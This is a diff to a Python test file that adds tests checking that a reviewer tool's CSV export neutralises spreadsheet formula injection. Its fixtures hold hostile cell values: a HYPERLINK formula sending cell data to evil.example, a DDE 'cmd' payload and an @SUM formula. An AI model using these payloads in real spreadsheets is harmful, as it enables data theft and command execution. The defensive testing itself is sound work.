@@ -25,6 +25,7 @@ from reviewer.spans import SOURCES, source_text
 from reviewer.store import Store
 from reviewer.synthetic import trajectory as synthetic
 from reviewer.taxonomy import Taxonomy
+from reviewer.textsafe import csv_row
 from tests.conftest import ROOT, SAMPLE_DATA
 
 RECORD_KEYS = [
@@ -461,11 +462,39 @@ def test_csv_of_an_empty_store_is_the_header(tmp_path: Path) -> None:
     db = tmp_path / "empty.db"
     Store(db).close()
     out = tmp_path / "export.csv"
+    columns = ["trajectory_id", "task_id", "source", "model", "render_version", "label", "tie", "gold_method", "n_reviewers",
+               "agreement", "votes", "categories", "markers", "intent", "n_evidence", "split", *(f"soft_label.{c}" for c in VERDICTS)]  # fmt: skip
     assert run(db, "-o", str(out), "--format", "csv").exit_code == 0
-    assert out.read_text(encoding="utf-8").splitlines() == [
-        "trajectory_id,task_id,source,model,render_version,label,tie,gold_method,n_reviewers,agreement,votes,categories,markers,"
-        "intent,n_evidence,split," + ",".join(f"soft_label.{c}" for c in VERDICTS)
-    ]
+    assert out.read_text(encoding="utf-8").splitlines() == [",".join(f'"{c}"' for c in columns)]  # text cells are quoted
+    assert run(db, "-o", str(out), "--format", "csv", "--csv-raw").exit_code == 0
+    assert out.read_text(encoding="utf-8").splitlines() == [",".join(columns)]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    db = tmp_path / "hostile.db"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    data = {**synthetic(0, 4), "id": "@SUM(1+1)", "task": {"id": formula, "prompt": "p"}, "agent": {"model": "+cmd|' /C calc'!A0"}}
+    with Store(db) as store:
+        store.trajectories.add(Trajectory.from_dict(data))
+        store.labels.save(Label(data["id"], "-mallory", verdict="cheat", intent=4), actor="-mallory", origin="test")
+    out = tmp_path / "export.csv"
+    assert run(db, "-o", str(out), "--format", "csv").exit_code == 0
+    text = out.read_text(encoding="utf-8")
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert (row["trajectory_id"], row["task_id"], row["model"]) == ("'@SUM(1+1)", "'" + formula, "'+cmd|' /C calc'!A0")
+    assert row["votes"] == "'-mallory=cheat"
+    line = text.splitlines()[1]
+    assert line.startswith('"\'@SUM(1+1)","\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"')  # quoted, quotes doubled
+    assert ',4,' in line  # the intent is a number: unquoted, no quote mark
+    assert run(db, "-o", str(out), "--format", "csv", "--csv-raw").exit_code == 0
+    raw = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert (raw["trajectory_id"], raw["task_id"], raw["votes"]) == ("@SUM(1+1)", formula, "-mallory=cheat")
+
+
+def test_csv_row_keeps_numbers_and_neutralises_every_formula_start() -> None:
+    starts = ["=1", "+1", "-1", "@1", "\t1", "\r1"]
+    assert csv_row([-1, 0.5, *starts, "a-b", ""]) == '-1,0.5,' + ",".join(f'"\'{s}"' for s in starts) + ',"a-b",""\n'
+    assert csv_row([-1, "=1", "a b"], raw=True) == "-1,=1,a b\n"
 
 
 # ---- loaders -----------------------------------------------------------------------------------
